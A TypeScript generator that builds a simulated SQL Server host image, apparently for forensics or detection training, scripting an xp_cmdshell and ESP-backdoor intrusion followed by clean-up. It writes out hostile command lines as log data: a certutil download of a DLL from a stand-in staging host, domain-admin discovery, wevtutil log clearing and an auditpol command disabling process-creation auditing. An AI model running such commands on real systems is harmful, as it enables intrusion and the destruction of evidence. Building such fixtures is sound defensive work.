/**
 * host-wiped: SQL04.corp.example.com, Windows Server 2016, SQL Server 2017 default instance,
 * UTC+1, Sysmon installed. The attacker cleans up after using an ESP backdoor: the DLL in
 * C:\Windows\Temp is loaded and used, then the procedure is dropped and the file deleted
 * (absent from the disk and from the registered ESP list), the ERRORLOG is cycled five times,
 * the Security log (1102) and the System log (104) are cleared and process-creation auditing
 * is switched off (4719). What is left: the Application log, the surviving ERRORLOG
 * generation, Sysmon, and the traces of the clean-up itself.
 */
import { utcAdjustment } from '../lib/clock.js';
import type { ErrorlogLine } from '../lib/errorlog.js';
import { factsOf, HostBuilder, type Proc } from '../lib/host-builder.js';
import { errorlogPath, serviceAccount, type HostConfig } from '../lib/host-config.js';
import * as sql from '../lib/sql-messages.js';
import { eventlog104, eventlog1102, security4719 } from '../lib/win-events.js';
import {
  binnLoad, dll, HOUR, layout, MIN, ms, nightlyBackups, placeBinn, routineLogins, sqlExports, sqlservrStarted, windowsNoise, winProc, type Background, type DllBytes,
} from './common.js';
import { MAGGIE_CONFIG } from './host-maggie.js';

export const WIPED_CONFIG: HostConfig = { ...MAGGIE_CONFIG, id: 'host-wiped', netbios: 'SQL04', fqdn: 'SQL04.corp.example.com' };

/** Key facts of the story (UTC), also printed in samples/README.md. */
export const WIPED_STORY = {
  attackerIp: '203.0.113.88',
  stagingUrl: 'http://203.0.113.90/svc.bin',
  dllPath: 'C:\\Windows\\Temp\\sqlsrvhelper.dll',
  procedure: 'xp_sqlhelper',
  /** sp_cycle_errorlog runs: one short of SQL Server's six archives, so the load survives in ERRORLOG.5. */
  cycles: 5,
  times: {
    boot: '2026-04-06T05:58:40.000Z',
    sqlStart: '2026-04-06T06:00:05.120Z',
    sprayStart: '2026-04-08T23:41:07.330Z',
    sprayEnd: '2026-04-08T23:44:52.910Z',
    saLogin: '2026-04-08T23:44:58.400Z',
    xpCmdshellOn: '2026-04-08T23:45:30.250Z',
    dllDownloaded: '2026-04-08T23:46:40.610Z',
    espFirstLoad: '2026-04-08T23:48:12.020Z',
    whoami: '2026-04-08T23:48:40.770Z',
    domainAdmins: '2026-04-08T23:50:05.140Z',
    dllDeleted: '2026-04-09T00:31:48.300Z',
    firstCycle: '2026-04-09T00:32:10.000Z',
    securityCleared: '2026-04-09T00:33:02.450Z',
    systemCleared: '2026-04-09T00:33:09.880Z',
    auditOff: '2026-04-09T00:33:30.120Z',
    xpCmdshellOff: '2026-04-09T00:34:05.660Z',
    collected: '2026-04-10T10:00:00.000Z',
  },
} as const;

/** sp_cycle_errorlog: the old generation says so, the new one starts with the banner. */
function cycleErrorlog(b: HostBuilder, t: number, spid: string, pid: number): void {
  const c = b.cfg;
  b.raw(t, spid, 'Attempting to cycle error log. This is an informational message only; no user action is required.');
  b.errorlogs.push([]);
  const at = t + 20;
  b.raw(at, 'Server', c.sql.bannerProduct, [`\t${c.sql.bannerBuildDate}`, `\t${c.sql.bannerCopyright}`, `\t${c.sql.bannerEdition}`, '']);
  const lines: Array<Omit<ErrorlogLine, 't'>> = [
    { source: 'Server', text: `UTC adjustment: ${utcAdjustment(c.utcOffsetMinutes)}` },
    { source: 'Server', text: '(c) Microsoft Corporation.' },
    { source: 'Server', text: 'All rights reserved.' },
    { source: 'Server', text: `Server process ID is ${pid}.` },
    { source: 'Server', text: "System Manufacturer: 'VMware, Inc.', System Model: 'VMware7,1'." },
    { source: 'Server', text: 'Authentication mode is MIXED.' },
    { source: 'Server', text: `Logging SQL Server messages in file '${errorlogPath(c)}'.` },
    { source: 'Server', text: `The service account is '${serviceAccount(c)}'. This is an informational message; no user action is required.` },
    { source: spid, text: 'The error log has been reinitialized. See the previous log for older entries.' },
  ];
  for (const l of lines) b.raw(at, l.source, l.text);
}

export function buildHostWiped(dlls: DllBytes): Map<string, Uint8Array> {
  const cfg = WIPED_CONFIG;
  const S = WIPED_STORY;
  const T = (k: keyof typeof S.times): number => ms(S.times[k]);
  const b = new HostBuilder(cfg, 0x3a1e04);
  const bg: Background = { databases: ['Payroll', 'Payroll_Stage'], appServerIp: '10.10.40.21', appLogin: 'payroll_app', dbaIp: '10.10.20.15', dbaLogin: 'CORP\\dba.jsmith', auditSuccess: true };
  const admin = { user: 'dba.jsmith', sid: `${cfg.domainSid}-1187`, ip: '10.10.20.15' };
  const pid = 2876;

  b.startup(T('sqlStart'), pid, undefined, undefined, bg.databases);
  sqlservrStarted(b, T('sqlStart'));
  const svc = b.sqlservr!;
  binnLoad(b, dlls, T('sqlStart') + 51_300, 'spid52', 'xpstar.dll', 'xp_instance_regread');
  binnLoad(b, dlls, T('sqlStart') + 51_840, 'spid52', 'xpsqlbot.dll', 'xp_qv');
  nightlyBackups(b, bg, T('sqlStart'), T('collected'));
  routineLogins(b, bg, T('sqlStart') + HOUR, T('collected'));

  const attempts = 24;
  for (let i = 0; i < attempts; i++) {
    const t = T('sprayStart') + Math.round(((T('sprayEnd') - T('sprayStart')) * i) / (attempts - 1));
    b.sql(t, 'Logon', sql.loginFailed('sa', 8, S.attackerIp));
  }
  b.sql(T('saLogin'), 'Logon', sql.loginSucceeded('sa', S.attackerIp, false));
  b.sql(T('xpCmdshellOn') - 620, 'spid66', sql.configChanged('show advanced options', 0, 1));
  b.sql(T('xpCmdshellOn'), 'spid66', sql.configChanged('xp_cmdshell', 0, 1));

  const subj = b.serviceSubject;
  const run = (t: number, p: number, exe: string, line: string, parent: Proc = svc): Proc => winProc(b, t, p, exe, line, parent, subj, svc.user);
  const CMD = 'C:\\Windows\\System32\\cmd.exe';
  const certutil = `certutil -urlcache -split -f ${S.stagingUrl} ${S.dllPath}`;
  const c1 = run(T('dllDownloaded'), 5236, CMD, `cmd.exe /c ${certutil}`);
  run(T('dllDownloaded') + 40, 5292, 'C:\\Windows\\System32\\certutil.exe', certutil, c1);

  // The backdoor: the same inert build as host-renamed's DLL; only its hash survives (Sysmon 7).
  const bytes = dll(dlls, 'dbmaint64.dll');
  b.espLoad(T('espFirstLoad'), 'spid66', S.dllPath, '1.4.2', S.procedure, { path: S.dllPath, facts: factsOf(bytes), desc: 'SQL Server helper (espy sample, inert)', original: 'sqlsrvhelper.dll', fileVersion: '1.4.2.0', signed: false });
  run(T('whoami'), 1932, 'C:\\Windows\\System32\\whoami.exe', 'whoami /all');
  const c2 = run(T('domainAdmins'), 6408, CMD, 'cmd.exe /c net group "domain admins" /domain');
  run(T('domainAdmins') + 28, 6452, 'C:\\Windows\\System32\\net.exe', 'net  group "domain admins" /domain', c2);

  // Clean-up: sp_dropextendedproc and DBCC FREE leave no log line; then the file goes.
  run(T('dllDeleted'), 3020, CMD, `cmd.exe /c del /f /q ${S.dllPath}`);
  for (let i = 0; i < S.cycles; i++) cycleErrorlog(b, T('firstCycle') + i * 9_500, 'spid66', pid);
  const c3 = run(T('securityCleared') - 180, 4410, CMD, 'cmd.exe /c wevtutil cl Security');
  run(T('securityCleared') - 120, 4436, 'C:\\Windows\\System32\\wevtutil.exe', 'wevtutil  cl Security', c3);
  const c4 = run(T('systemCleared') - 170, 4502, CMD, 'cmd.exe /c wevtutil cl System');
  run(T('systemCleared') - 110, 4528, 'C:\\Windows\\System32\\wevtutil.exe', 'wevtutil  cl System', c4);
  const c5 = run(T('auditOff') - 150, 4620, CMD, 'cmd.exe /c auditpol /set /subcategory:"Process Creation" /success:disable /failure:disable');
  run(T('auditOff') - 90, 4644, 'C:\\Windows\\System32\\auditpol.exe', 'auditpol  /set /subcategory:"Process Creation" /success:disable /failure:disable', c5);
  b.sql(T('xpCmdshellOff'), 'spid66', sql.configChanged('xp_cmdshell', 1, 0));
  b.sql(T('xpCmdshellOff') + 480, 'spid66', sql.configChanged('show advanced options', 1, 0));

  windowsNoise(b, T('sqlStart') - 2 * MIN, T('collected'), [T('boot')], admin);

  // What the clearing left: each cleared log starts with its clearing record; process creation
  // is no longer audited after 4719.
  const keepFrom = (events: typeof b.security, from: number): void => {
    const kept = events.filter((e) => Date.parse(e.time) >= from);
    events.splice(0, events.length, ...kept);
  };
  keepFrom(b.security, T('securityCleared'));
  const auditOff = T('auditOff');
  const afterAudit = b.security.filter((e) => !(e.eventId === 4688 && Date.parse(e.time) > auditOff));
  b.security.splice(0, b.security.length, ...afterAudit);
  b.security.push(eventlog1102(b.evtxTime(T('securityCleared')), subj));
  b.security.push(security4719(b.evtxTime(auditOff), subj, { categoryId: '%%8273', subcategoryId: '%%13312', subcategoryGuid: '{0cce922b-69ae-11d9-bed3-505054503030}', changes: '%%8448, %%8450' }, b.nextThread()));
  keepFrom(b.system, T('systemCleared'));
  b.system.push(eventlog104(b.evtxTime(T('systemCleared')), subj, 'System'));

  const placed = new Map<string, Uint8Array>();
  placeBinn(cfg, dlls, placed);
  const exports = sqlExports(cfg, {
    esps: [],
    principals: [{ name: 'payroll_app', type: 'SQL_LOGIN', created: '2024-11-06 10:12:40.517' }],
    sysadmins: [],
    config: { 'show advanced options': 0, 'xp_cmdshell': 0 },
  });
  // A cleared log starts again at record 1.
  return layout(b, { app: 61204, system: 1, security: 1, sysmon: 402_118 }, placed, exports);
}
